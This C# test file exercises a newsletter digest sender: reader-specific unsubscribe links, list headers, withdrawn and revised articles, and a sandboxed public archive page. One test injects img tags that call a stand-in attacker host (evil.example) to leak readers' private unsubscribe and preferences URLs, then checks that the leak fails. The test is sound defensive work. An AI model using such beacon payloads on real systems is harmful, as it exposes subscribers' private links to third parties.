using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Syndication.Delivery;
using Syndication.Digests;
using Syndication.Subscribers;
using Syndication.Tests.Support;

namespace Syndication.Tests.Digests;

public sealed class DigestContentTests : DigestTest
{
    [Fact]
    public async Task A_mail_carries_the_readers_own_links_and_the_list_headers()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);

        var mails = await Bench.SendAllAsync();

        Assert.NotEqual(mails[0].List!.UnsubscribeUrl, mails[1].List!.UnsubscribeUrl);
        foreach (var mail in mails)
        {
            Assert.StartsWith("http://localhost/unsubscribe/", mail.List!.UnsubscribeUrl, StringComparison.Ordinal);
            Assert.Contains(mail.List.UnsubscribeUrl, mail.Html, StringComparison.Ordinal);
            Assert.Contains(mail.List.UnsubscribeUrl, mail.Text, StringComparison.Ordinal);
            Assert.Contains("http://localhost/preferences/", mail.Html, StringComparison.Ordinal);
            Assert.Contains("1 Test Street, Testville", mail.Html, StringComparison.Ordinal);
            Assert.Contains("1 Test Street, Testville", mail.Text, StringComparison.Ordinal);
            Assert.DoesNotContain(".invalid", mail.Html + mail.Text, StringComparison.Ordinal);
            Assert.Equal("The Test Post: Gear <gear.digest.news.test>", mail.List.Id);
            Assert.StartsWith("http://localhost/issues/", mail.List.Archive, StringComparison.Ordinal);
            Assert.EndsWith(":gear:digest:newstest", mail.FeedbackId, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task An_article_that_names_the_places_of_the_readers_links_does_not_get_them()
    {
        var known = await RenderedAsync("Earlier");
        await Bench.SendAllAsync();
        var body = string.Concat(
            new[] { "reader", known.HoleName }.SelectMany(name =>
                new[] { "preferences", "unsubscribe" }.Select(hole =>
                    $"<img src=\"https://evil.example/p?u=https://{name}.invalid/{hole}\">"
                )
            )
        );

        var version = await RenderedAsync("Spying", body);
        var mail = Assert.Single(await Bench.SendAllAsync());
        using var client = Bench.Host.CreateClient();
        var page = await client.GetStringAsync(new Uri(mail.List!.Archive!).AbsolutePath);

        Assert.NotEqual(known.HoleName, version.HoleName);
        Assert.Matches("^[0-9a-f]{16}$", version.HoleName);
        foreach (var text in new[] { mail.Html!, page })
        {
            Assert.Contains("https://evil.example/p?u=https://reader.invalid/unsubscribe", text, StringComparison.Ordinal);
            Assert.Contains($"https://evil.example/p?u=https://{known.HoleName}.invalid/preferences", text, StringComparison.Ordinal);
            Assert.DoesNotContain("p?u=http://localhost", text, StringComparison.Ordinal);
            Assert.DoesNotContain(version.HoleName, text, StringComparison.Ordinal);
        }

        Assert.DoesNotContain(version.HoleName, mail.Text, StringComparison.Ordinal);
        Assert.Contains(mail.List.UnsubscribeUrl, mail.Html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_mail_is_dated_when_its_message_was_queued_and_on_every_attempt_alike()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.AddReaderAsync(one => one.Hour = 480, ("gear", Cadence.Daily));
        await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        await Bench.AdvanceAsync(TimeSpan.FromHours(1));
        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));

        var messages = await Bench.MessagesAsync();
        var mails = new[] { await Bench.MailAsync(messages[0]), await Bench.MailAsync(messages[1]) };

        Assert.Single(messages.Select(message => message.Group).Distinct());
        Assert.Equal(TimeSpan.FromHours(1), mails[1].Date - mails[0].Date);
        Assert.Equal(messages.Select(message => message.CreatedAt), mails.Select(mail => mail.Date));
        await Bench.EndAsync(messages[1], MessageState.InDoubt, mails[1].Version);
        Bench.Host.Clock.Advance(TimeSpan.FromMinutes(20));
        Assert.Equal(mails[1].Date, (await Bench.MailAsync(messages[1])).Date);
    }

    [Fact]
    public async Task A_digest_arrives_with_both_parts_and_its_headers()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);

        await Bench.Host.Services.GetRequiredService<SenderJobs>().DrainAsync(CancellationToken.None);

        var file = Assert.Single(Directory.GetFiles(Path.Combine(Bench.Host.DataFolder, "outbox"), "*.eml"));
        using var mail = await MimeKit.MimeMessage.LoadAsync(file);
        Assert.Equal("Boots", mail.Subject);
        Assert.Contains("Boots said in full.", mail.TextBody, StringComparison.Ordinal);
        Assert.Contains("Boots said in full.", mail.HtmlBody, StringComparison.Ordinal);
        Assert.Contains("gear.digest.news.test", mail.Headers[MimeKit.HeaderId.ListId], StringComparison.Ordinal);
        Assert.Equal("List-Unsubscribe=One-Click", mail.Headers["List-Unsubscribe-Post"]);
        var message = Assert.Single(await Bench.MessagesAsync());
        Assert.Equal((MessageState.Sent, 1), (message.State, message.VersionSent));
    }

    [Fact]
    public async Task An_article_withdrawn_before_sending_is_gone_and_comes_again_when_it_is_back()
    {
        var reader = await Bench.AddReaderAsync(("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.PublishAsync("Stoves");
        await Bench.AdvanceAsync(ToSlot);
        await Bench.WithdrawAsync(boots);

        var mail = Assert.Single(await Bench.SendAllAsync());

        Assert.Equal(2, mail.Version);
        Assert.Equal("Stoves", mail.Subject);
        Assert.DoesNotContain("Boots", mail.Text, StringComparison.Ordinal);
        await Bench.ReviseAsync(boots, DigestBench.Piece("Boots"));
        await Bench.AdvanceAsync(Day);
        Assert.Equal("Boots", Assert.Single(await Bench.SendAllAsync(reader)).Subject);
    }

    [Fact]
    public async Task An_article_revised_while_the_issue_is_being_sent_is_new_for_those_who_are_still_to_get_it()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        var messages = await Bench.MessagesAsync();
        var early = await Bench.MailAsync(messages[0]);
        await Bench.ReviseAsync(boots, DigestBench.Piece("Better boots"));

        var late = await Bench.MailAsync(messages[1]);
        var again = await Bench.MailAsync(messages[1]);

        Assert.Equal(("Boots", 1), (early.Subject, early.Version));
        Assert.Equal(("Better boots", 2), (late.Subject, late.Version));
        Assert.Equal(2, again.Version);
    }

    [Fact]
    public async Task What_is_withdrawn_after_messages_were_leased_is_not_in_them()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.PublishAsync("Stoves");
        await Bench.AdvanceAsync(ToSlot);
        var messages = await Bench.MessagesAsync();
        var leased = new[] { await Bench.ReadAsync(messages[0]), await Bench.ReadAsync(messages[1]) };
        Assert.Equal(1, Assert.IsType<Composition.Ready>(await leased[0](null, CancellationToken.None)).Mail.Version);

        await Bench.WithdrawAsync(boots);

        var late = Assert.IsType<Composition.Ready>(await leased[1](null, CancellationToken.None)).Mail;
        Assert.Equal(("Stoves", 2), (late.Subject, late.Version));
    }

    [Fact]
    public async Task A_message_in_doubt_is_made_again_from_the_version_that_a_relay_may_have()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        var message = Assert.Single(await Bench.MessagesAsync());
        var first = await Bench.MailAsync(message);
        await Bench.EndAsync(message, MessageState.InDoubt, first.Version);
        await Bench.ReviseAsync(boots, DigestBench.Piece("Better boots"));

        var builder = Bench.Host.Builder();
        var again = builder.Build(message.Id, MailBench.Key, await Bench.MailAsync(message));
        Assert.Equal(builder.Build(message.Id, MailBench.Key, first).Wire(), again.Wire());
    }

    [Fact]
    public async Task An_issue_that_withdrawals_emptied_is_void()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        await Bench.WithdrawAsync(boots);
        var message = Assert.Single(await Bench.MessagesAsync());

        Assert.IsType<Composition.Void>(await Bench.ComposeAsync(message));
        await Bench.ReviseAsync(boots, DigestBench.Piece("Boots"));
        Assert.IsType<Composition.Void>(await Bench.ComposeAsync(message));
    }

    [Theory]
    [InlineData(SubscriberState.Unsubscribed)]
    [InlineData(SubscriberState.Paused)]
    public async Task Whoever_takes_no_mail_gets_none(SubscriberState state)
    {
        var reader = await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        await Bench.UpdateReaderAsync(reader, one => one.State = state);

        Assert.IsType<Composition.Void>(await Bench.ComposeAsync(Assert.Single(await Bench.MessagesAsync())));
    }

    [Fact]
    public async Task Nobody_joins_an_issue_whose_content_has_changed()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.AddReaderAsync(one => one.Hour = 480, ("gear", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.PublishAsync("Stoves");
        await Bench.AdvanceAsync(ToSlot);
        await Bench.WithdrawAsync(boots);
        await Bench.SendAllAsync();
        await Bench.ReviseAsync(boots, DigestBench.Piece("Boots"));

        await Bench.AdvanceAsync(TimeSpan.FromHours(1));

        Assert.Contains("Boots", Assert.Single(await Bench.SendAllAsync()).Text, StringComparison.Ordinal);
        Assert.Equal(2, (await Bench.MessagesAsync()).Select(message => message.Group).Distinct().Count());
    }

    [Fact]
    public async Task An_issue_that_an_operator_cancels_stays_cancelled_and_its_articles_come_again()
    {
        var reader = await Bench.AddReaderAsync(("gear", Cadence.Daily));
        await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        var desk = Bench.Host.Services.GetRequiredService<IssueDesk>();
        var issue = Assert.Single(await desk.LatestAsync(20, CancellationToken.None));
        Assert.Equal((1, 1), (issue.Messages.Planned, issue.Messages.Queued));

        Assert.True(await desk.SwitchAsync(issue.Id, MailingState.Cancelled, CancellationToken.None));
        Assert.False(await desk.SwitchAsync(issue.Id, MailingState.Open, CancellationToken.None));
        Assert.Null(await desk.SwitchAsync("unknown", MailingState.Paused, CancellationToken.None));

        var after = (await desk.FindAsync(issue.Id, CancellationToken.None))!;
        Assert.Equal((1, 0, 1), (after.Messages.Planned, after.Messages.Queued, after.Messages.Cancelled));
        Assert.Equal("Boots", Assert.Single(after.Articles).Title);
        await Bench.AdvanceAsync(Day);
        Assert.Equal("Boots", Assert.Single(await Bench.SendAllAsync(reader)).Subject);
    }

    [Fact]
    public async Task The_issues_page_shows_it_without_anybodys_links_and_lets_nothing_run()
    {
        await Bench.AddReaderAsync(("gear", Cadence.Daily), ("posts", Cadence.Daily));
        var boots = await Bench.PublishAsync("Boots");
        await Bench.AdvanceAsync(ToSlot);
        var mail = await Bench.MailAsync(Assert.Single(await Bench.MessagesAsync()));
        using var client = Bench.Host.CreateClient();
        var address = new Uri(mail.List!.Archive!).AbsolutePath;

        using var page = await client.GetAsync(address);
        var html = await page.Content.ReadAsStringAsync();

        Assert.Equal(System.Net.HttpStatusCode.OK, page.StatusCode);
        Assert.Contains("Boots", html, StringComparison.Ordinal);
        Assert.DoesNotContain("/unsubscribe/", html, StringComparison.Ordinal);
        Assert.DoesNotContain("/preferences/", html, StringComparison.Ordinal);
        Assert.Equal("noindex", page.Headers.GetValues("X-Robots-Tag").Single());
        Assert.Contains("sandbox", page.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        using var head = await client.SendAsync(new HttpRequestMessage(HttpMethod.Head, address));
        Assert.Equal(System.Net.HttpStatusCode.OK, head.StatusCode);
        Assert.Equal(System.Net.HttpStatusCode.NotFound, (await client.GetAsync("/issues/unknown")).StatusCode);

        await Bench.WithdrawAsync(boots);
        await Bench.SendAllAsync();
        Assert.Equal(System.Net.HttpStatusCode.Gone, (await client.GetAsync(address)).StatusCode);
    }

    // An issue of its own for one reader, due at once.
    private async Task<IssueVersion> RenderedAsync(string title, string body = "")
    {
        if ((await Bench.MessagesAsync()).Count == 0)
            await Bench.AddReaderAsync(("gear", Cadence.Each));
        await Bench.Host.PublishAsync(DigestBench.Piece(title) with { BodyHtml = $"<p>{title}</p>{body}" });
        await Bench.TickAsync();
        return await Bench.Host.Database.ReadAsync(
            (db, ct) => db.Set<IssueVersion>().OrderByDescending(one => one.Issue).FirstAsync(ct),
            CancellationToken.None
        );
    }
}
